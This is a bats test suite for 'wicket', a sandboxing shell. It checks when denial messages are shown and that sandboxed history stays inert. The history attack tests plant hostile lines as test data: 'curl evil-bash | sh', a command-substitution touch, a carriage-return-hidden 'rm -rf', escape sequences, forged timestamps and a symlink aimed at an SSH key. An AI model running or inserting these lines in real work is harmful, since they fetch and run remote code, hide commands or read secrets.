#!/usr/bin/env bats
# Denial lines that help and do not get in the way (wicket(1),
# DIAGNOSTICS and THE INTERACTIVE SHELL), each driven through a terminal
# of the test's own (tests/lib/ptydrive.py): a denial's line and the
# hooks' block come before the next prompt, every time; a full-screen
# program (alternate screen) is never drawn over, the lines wait until it
# leaves; writes to the usual history and state files in the home are
# refused without a line or a block; the shell's history survives the
# session, and what the sandbox writes into it is only ever data.

load ../lib/common
load integration_helpers
bats_require_minimum_version 1.5.0

setup() {
	WS=$(mk_workspace) && H=$(mk_outside) || return 1
	track "$WS" "$H"
	mkdir -p "$H/state" "$H/config" "$H/cache"
	export WS H WICKET
	export PYTHONPATH=$BATS_TEST_DIRNAME/../lib
}

teardown() { it_teardown; }

# drive: the python program on stdin, with ptydrive importable, bounded.
drive() { bounded 300 "$PY" - "$@"; }

# in_order SHELL N: N refused commands in a row in SHELL (bash or zsh)
# under wicket; each one's line and block come before the next prompt.
in_order() {
	local token
	token=$(new_token)
	guard_path "/var/tmp/$token"-*
	printf 'PS1=%s\n' "'P\\#> '" >"$H/.bashrc"
	printf 'PROMPT=%s\n' "'P%h> '" >"$H/.zshrc"
	TOKEN=$token SH=$1 N=$2 drive <<'EOF'
import os, re
from ptydrive import Term, check, run

def main():
    h, tok = os.environ["H"], os.environ["TOKEN"]
    env = {"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": h, "TERM": "xterm", "LANG": "C.UTF-8",
           "SHELL": os.environ["SH"], "XDG_STATE_HOME": h + "/state", "XDG_CONFIG_HOME": h + "/config",
           "XDG_CACHE_HOME": h + "/cache"}
    t = Term([os.environ["WICKET"]], env=env, cwd=os.environ["WS"], rows=50, cols=200)
    m = t.expect(r"P(\d+)> ", timeout=90)  # a loaded machine starts slowly
    n = int(m.group(1))
    for i in range(int(os.environ["N"])):
        t.line("touch /var/tmp/%s-%d" % (tok, i))
        start = t.pos
        n += 1
        t.expect(r"P%d> " % n)
        seen = t.out[start:t.pos].decode("utf-8", "replace")
        check(re.search(r"sandbox: write blocked: /var/tmp/%s-%d \(create by touch\[\d+\]\)" % (tok, i), seen),
              "command %d: its denial line came after the prompt:\n%r" % (i, seen))
        check("wicket: the sandbox blocked 1 thing in that command:" in seen,
              "command %d: its block came after the prompt:\n%r" % (i, seen))
        check(seen.count("sandbox blocked") == 1, "command %d: one block:\n%r" % (i, seen))
    t.line("exit 0")
    check(t.wait() == 0, "the shell's status")

run(main)
EOF
	local i
	for ((i = 0; i < $2; i++)); do [ ! -e "/var/tmp/$token-$i" ]; done
}

@test "denials: the line and the block come before the next prompt, every time (bash, 40 commands in a row)" {
	in_order /bin/bash 40
}

@test "denials: the line and the block come before the next prompt, every time (zsh, 40 commands in a row)" {
	command -v zsh >/dev/null || skip "zsh is not installed"
	in_order "$(command -v zsh)" 40
}

# alt_screen ENTER LEAVE: a program that takes the alternate screen, is
# refused a write while it has it, and leaves it.
alt_screen() {
	local token
	token=$(new_token)
	guard_path "/var/tmp/$token"
	TOKEN=$token ENTER=$1 LEAVE=$2 drive <<'EOF'
import os
from ptydrive import Term, check, run

def main():
    tok, enter, leave = os.environ["TOKEN"], os.environ["ENTER"], os.environ["LEAVE"]
    prog = ("import os, sys, time\n"
            "sys.stdout.write('before\\n\\033[?%sh'); sys.stdout.flush()\n"
            "try: open('/var/tmp/%s', 'w')\n"
            "except OSError: pass\n"
            "sys.stdout.write('FULL-SCREEN'); sys.stdout.flush()\n"
            "time.sleep(1)\n"
            "sys.stdout.write('\\033[?%sl'); sys.stdout.flush()\n"
            "time.sleep(0.3)\n"
            "print('after')\n") % (enter, tok, leave)
    t = Term([os.environ["WICKET"], "run", "--", "/usr/bin/python3", "-c", prog], cwd=os.environ["WS"])
    t.expect("FULL-SCREEN", timeout=90)
    t.expect("after")
    t.wait()
    out = t.out
    i_in = out.index(b"\x1b[?%sh" % enter.encode())
    i_out = out.index(b"\x1b[?%sl" % leave.encode())
    line = b"sandbox: write blocked: /var/tmp/" + tok.encode()
    check(line in out, "the denial line is shown at all")
    i_line = out.index(line)
    check(not (i_in < i_line < i_out), "the line was drawn on the alternate screen:\n%r" % out)
    check(i_line > i_out, "the line comes after the program left the alternate screen:\n%r" % out)

run(main)
EOF
	[ ! -e "/var/tmp/$token" ]
}

@test "denials: lines wait until a full-screen program leaves the alternate screen (1049, 1047, 47)" {
	alt_screen 1049 1049
	alt_screen 1047 1047
	alt_screen 47 47
	# Entered with one, left with the other: still left.
	alt_screen 1049 47
}

@test "denials: writes to history and state files in the home: refused, no line, no block; a real one still has both" {
	local token
	token=$(new_token)
	guard_path "/var/tmp/$token"
	mkdir -p "$H/.npm" "$H/.cache"
	printf 'PS1=%s\n' "'P\\#> '" >"$H/.bashrc"
	TOKEN=$token drive <<'EOF'
import os, re
from ptydrive import Term, check, run

def main():
    h, tok = os.environ["H"], os.environ["TOKEN"]
    env = {"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": h, "TERM": "xterm", "LANG": "C.UTF-8",
           "SHELL": "/bin/bash", "XDG_STATE_HOME": h + "/state", "XDG_CONFIG_HOME": h + "/config"}
    t = Term([os.environ["WICKET"]], env=env, cwd=os.environ["WS"], rows=50, cols=200)
    m = t.expect(r"P(\d+)> ", timeout=90)  # a loaded machine starts slowly
    n = int(m.group(1))
    for f in (".bash_history", ".zsh_history", ".viminfo", ".lesshst", ".python_history",
              ".npm/_logs", ".cache/pip", ".bash_history-99.tmp"):
        t.line("touch ~/%s" % f)
        start = t.pos
        n += 1
        t.expect(r"P%d> " % n)
        seen = t.out[start:t.pos].decode("utf-8", "replace")
        check("Permission denied" in seen or "Read-only" in seen, "%s: refused:\n%r" % (f, seen))
        check("sandbox:" not in seen and "wicket:" not in seen, "%s: no line, no block:\n%r" % (f, seen))
    t.line("touch /var/tmp/%s" % tok)
    start = t.pos
    n += 1
    t.expect(r"P%d> " % n)
    seen = t.out[start:t.pos].decode("utf-8", "replace")
    check("sandbox: write blocked: /var/tmp/" + tok in seen, "a real denial keeps its line:\n%r" % seen)
    check("the sandbox blocked 1 thing in that command" in seen, "and its block counts it alone:\n%r" % seen)
    t.line("exit")
    t.wait()

run(main)
EOF
	# (.bash_history is the session's history, kept at the end: see below.)
	for f in .zsh_history .viminfo .lesshst .python_history .npm/_logs .cache/pip; do
		[ ! -e "$H/$f" ]
	done
	[ ! -e "/var/tmp/$token" ]
}

@test "denials: real programs' history files (less, vim, python) are refused quietly, and still in wicket why" {
	command -v less >/dev/null || skip "less is not installed"
	command -v vim >/dev/null || skip "vim is not installed"
	printf 'PS1=%s\n' "'P\\#> '" >"$H/.bashrc"
	printf 'some text\n' >"$WS/f.txt"
	drive <<'EOF'
import json, os, re
from ptydrive import Term, check, run

def main():
    h = os.environ["H"]
    env = {"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": h, "TERM": "xterm", "LANG": "C.UTF-8",
           "SHELL": "/bin/bash", "XDG_STATE_HOME": h + "/state", "XDG_CONFIG_HOME": h + "/config"}
    t = Term([os.environ["WICKET"]], env=env, cwd=os.environ["WS"], rows=50, cols=200)
    m = t.expect(r"P(\d+)> ", timeout=90)
    n = [int(m.group(1))]
    def after(keys):
        start = t.pos
        keys()
        n[0] += 1
        t.expect(r"P%d> " % n[0], timeout=60)
        return t.out[start:t.pos].decode("utf-8", "replace")
    # less writes its history (.lesshsQ, renamed to .lesshst) after a search.
    def less():
        t.line("less f.txt")
        t.expect("some text")
        t.send(b"/text\r")
        t.send(b"q")
    # vim writes .viminfz.tmp, renamed to .viminfo, at exit.
    def vim():
        t.line("vim -N -u NONE f.txt")
        t.expect("some text")
        t.send(b":q\r")
    # python's REPL writes .python_history at exit.
    def py():
        t.line("python3 -q")
        t.expect(">>> ")
        t.send(b"1+1\r")
        t.expect(">>> ")
        t.send(b"exit()\r")
    for name, f in (("less", less), ("vim", vim), ("python3", py)):
        seen = after(f)
        check("sandbox:" not in seen and "the sandbox blocked" not in seen,
              "%s: no line, no block:\n%r" % (name, seen))
    # Refused all the same: each program's write is in wicket why.
    after(lambda: t.line("wicket why --json -n 100 >why.json"))
    t.line("exit")
    t.wait()
    objs = [d["object"] for d in json.load(open(os.path.join(os.environ["WS"], "why.json")))["denials"]]
    for name, pat in (("less", r"/\.lesshs"), ("vim", r"/\.viminf"), ("python3", r"/\.python_history$")):
        check(any(re.search(pat, o) for o in objs), "%s's write is in wicket why: %r" % (name, objs))

run(main)
EOF
	for f in .lesshst .lesshsQ .viminfo .python_history; do
		[ ! -e "$H/$f" ]
	done
}

# The python side of the history tests: shell(argv_extra, rc) starts
# `wicket` (the shell) in a terminal with HOME=$H and returns the Term.
HIST_PY='
import os, re
from ptydrive import Term, check, run
H, WS = os.environ["H"], os.environ["WS"]
ENV = {"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": H, "TERM": "xterm", "LANG": "C.UTF-8",
       "XDG_STATE_HOME": H + "/state", "XDG_CONFIG_HOME": H + "/config"}

def shell(sh, prompt):
    t = Term([os.environ["WICKET"]], env=dict(ENV, SHELL=sh), cwd=WS, rows=50, cols=200)
    t.expect(prompt, timeout=90)
    return t

def do(t, cmd, prompt):
    t.line(cmd)
    start = t.pos
    t.expect(prompt)
    return t.out[start:t.pos].decode("utf-8", "replace")
'

@test "history: bash and zsh keep the session's commands in the user's history; recall has the old ones; nothing left in /tmp" {
	command -v zsh >/dev/null || skip "zsh is not installed"
	printf 'old-bash-line\n' >"$H/.bash_history"
	printf '%s\n' "PS1='B> '" >"$H/.bashrc"
	printf 'old-zsh-line\n' >"$H/.zsh_history"
	printf '%s\n' "PROMPT='Z> '" 'HISTFILE=~/.zsh_history' 'SAVEHIST=100' 'HISTSIZE=100' >"$H/.zshrc"
	drive <<EOF
$HIST_PY
def main():
    t = shell("/bin/bash", "B> ")
    seen = do(t, "history", "B> ")
    check("old-bash-line" in seen, "bash recalls the user's history:\n%r" % seen)
    seen = do(t, 'echo "HF=\$HISTFILE"', "B> ")
    hf = re.search(r"HF=(/\S+)", seen).group(1)
    check(hf.startswith("/") and "wicket-history-" in hf, "bash writes a session file: %r" % hf)
    do(t, "echo new-bash-line", "B> ")
    t.line("exit 0")
    check(t.wait() == 0, "bash's status")
    check(not os.path.exists(os.path.dirname(hf)), "the session's history directory is removed")
    t = shell("/usr/bin/zsh", "Z> ")
    seen = do(t, "fc -l 1", "Z> ")
    check("old-zsh-line" in seen, "zsh recalls the user's history:\n%r" % seen)
    do(t, "echo new-zsh-line", "Z> ")
    t.line("exit 0")
    check(t.wait() == 0, "zsh's status")

run(main)
EOF
	grep -qx 'old-bash-line' "$H/.bash_history"
	grep -qx 'echo new-bash-line' "$H/.bash_history"
	grep -qx 'old-zsh-line' "$H/.zsh_history"
	grep -q 'echo new-zsh-line' "$H/.zsh_history"
	# Each line once: the old ones are not appended again.
	[ "$(grep -c 'old-bash-line' "$H/.bash_history")" = 1 ]
	[ "$(grep -c 'old-zsh-line' "$H/.zsh_history")" = 1 ]
}

@test "history (attack): what the sandbox writes into its history is data: no code runs outside, no escape reaches the history, no secret is read through a link, a FIFO or a flood is bounded" {
	printf '%s\n' "PS1='B> '" >"$H/.bashrc"
	mkdir -p "$H/.ssh"
	printf 'SECRET-KEY-%s\n' "$$" >"$H/.ssh/id_wicket_test"
	: >"$H/.bash_history"
	drive <<EOF
$HIST_PY
def main():
    # Hostile lines: commands to run, expansions, an escape sequence, a
    # carriage return hiding the start of a line.
    t = shell("/bin/bash", "B> ")
    do(t, r"""printf '%s\n' 'touch $H/pwned-1' '\$(touch $H/pwned-2)' \$'\e]2;title\a touch $H/pwned-3' \$'rm -rf x\recho harmless' 'echo fine-line' >>"\$HISTFILE" """, "B> ")
    # And the sandbox tries to name the file the supervisor appends to.
    do(t, "HISTFILE=~/.bashrc; WICKET_HISTFILE=~/.bashrc", "B> ")
    t.line("exit 0")
    t.wait()
    # The session file, a link to a secret the sandbox cannot read.
    t = shell("/bin/bash", "B> ")
    do(t, r'''rm -f "\$HISTFILE"; ln -s ~/.ssh/id_wicket_test "\$HISTFILE"; HISTFILE=''', "B> ")
    t.line("exit 0")
    t.wait()
    # A FIFO: the supervisor must not wait on it.
    t = shell("/bin/bash", "B> ")
    do(t, r'''rm -f "\$HISTFILE"; mkfifo "\$HISTFILE"; HISTFILE=''', "B> ")
    t.line("exit 0")
    t.wait(timeout=30)
    # A flood: 4 MiB of lines.
    t = shell("/bin/bash", "B> ")
    do(t, r'''yes flood-line-0123456789 | head -c 4194304 >"\$HISTFILE"; HISTFILE=''', "B> ")
    t.line("exit 0")
    t.wait()
    # What the sessions left, before a shell outside rewrites the file.
    with open(H + "/.bash_history", "rb") as f, open(H + "/hist-after", "wb") as g:
        g.write(f.read())
    # The user's own shell, outside, reads that history and shows it.
    t = Term(["bash", "--norc", "-i"], env=dict(ENV, PS1="H> ", HISTFILE=H + "/.bash_history"), cwd=WS)
    t.expect("H> ")
    seen = do(t, "history | tail -n 3", "H> ")
    t.line("exit 0")
    t.wait()

run(main)
EOF
	# Nothing ran outside; the user's rc file is untouched.
	[ ! -e "$H/pwned-1" ] && [ ! -e "$H/pwned-2" ] && [ ! -e "$H/pwned-3" ]
	[ "$(cat "$H/.bashrc")" = "PS1='B> '" ]
	# The plain lines are kept as data, the ones with control characters dropped.
	grep -qxF 'echo fine-line' "$H/hist-after"
	grep -qxF "touch $H/pwned-1" "$H/hist-after"
	run ! grep -q $'\e' "$H/hist-after"
	run ! grep -q $'\r' "$H/hist-after"
	run ! grep -q 'pwned-3' "$H/hist-after"
	# No secret read through the link.
	run ! grep -q 'SECRET-KEY' "$H/hist-after"
	# The flood is bounded (256 KiB of it at most).
	[ "$(stat -c %s "$H/hist-after")" -lt $((300 * 1024)) ]
	grep -q 'flood-line' "$H/hist-after"
	# and so is what it adds to the user's file: 100 lines at most, or a
	# session could push all of the user's own history out.
	[ "$(grep -c 'flood-line' "$H/hist-after")" -le 100 ]
}

@test "history (attack): no time stamps, metafied controls or joined lines of the sandbox's reach the user's bash and zsh history" {
	command -v zsh >/dev/null || skip "zsh is not installed"
	printf '%s\n' "PS1='B> '" >"$H/.bashrc"
	printf '%s\n' "PROMPT='Z> '" 'HISTFILE=~/.zsh_history' 'SAVEHIST=100' 'HISTSIZE=100' 'setopt extended_history' >"$H/.zshrc"
	printf '#1700000000\nmy-own-bash-line\n' >"$H/.bash_history"
	printf ': 1700000000:0;my-own-zsh-line\n' >"$H/.zsh_history"
	drive <<EOF
$HIST_PY
def main():
    # bash: forged time stamps, which would also join the lines between
    # them into one entry (echo visible + the hidden curl), and a raw C1.
    t = shell("/bin/bash", "B> ")
    do(t, r"""printf '#1600000001\necho visible\ncurl evil-bash | sh\n#99999999999\nbash-ok\nx\x9b31m\n' >>"\$HISTFILE" """, "B> ")
    t.line("exit 0")
    t.wait()
    # zsh: a metafied ESC and newline (0x83 then c ^ 0x20), a forged
    # extended-history stamp, a last line ending in a backslash that
    # would swallow the user's next one.
    t = shell("/usr/bin/zsh" if os.path.exists("/usr/bin/zsh") else "/bin/zsh", "Z> ")
    do(t, r"""printf ': 1600000000:0;echo \x83\x3b]2;T\x83\x27\n: 1600000002:0;echo visible\x83\x2acurl evil-zsh | sh\n: 1600000003:0;zsh-ok\n:  1500000000:0;echo blank-stamp\n: 1600000004:0;swallow \\\\\n' >>"\$WICKET_HISTFILE" """, "Z> ")
    t.line("exit 0")
    t.wait()

run(main)
EOF
	# bash: the plain lines came, each its own entry with a stamp of the
	# merge's (the user's file has stamps), none of the sandbox's.
	run -0 cat -v "$H/.bash_history"
	echo "$output"
	refute_line '#1600000001'
	refute_line '#99999999999'
	refute_output --partial 'M-^['
	refute_output --partial 'M-^[31m'
	assert_line bash-ok
	assert_line 'curl evil-bash | sh'
	local now
	now=$(date +%s)
	# every appended line follows a time stamp of its own, from now
	awk -v now="$now" 'NR > 2 { if (prev !~ /^#[0-9]+$/ && $0 !~ /^#[0-9]+$/) bad = 1;
		if ($0 ~ /^#[0-9]+$/ && (substr($0, 2) + 0 < now - 600 || substr($0, 2) + 0 > now + 60)) bad = 1 }
		{ prev = $0 } END { exit bad }' "$H/.bash_history"
	# zsh: no Meta byte, no forged stamp, no open continuation.
	run -0 cat -v "$H/.zsh_history"
	echo "$output"
	refute_output --partial 'M-^C'
	refute_line --regexp '^: 1600000'
	refute_line --regexp '^: +1500000000'
	refute_line --regexp '\\$'
	assert_line --regexp '^: [0-9]+:0;zsh-ok$'
	assert_line ': 1700000000:0;my-own-zsh-line'
}
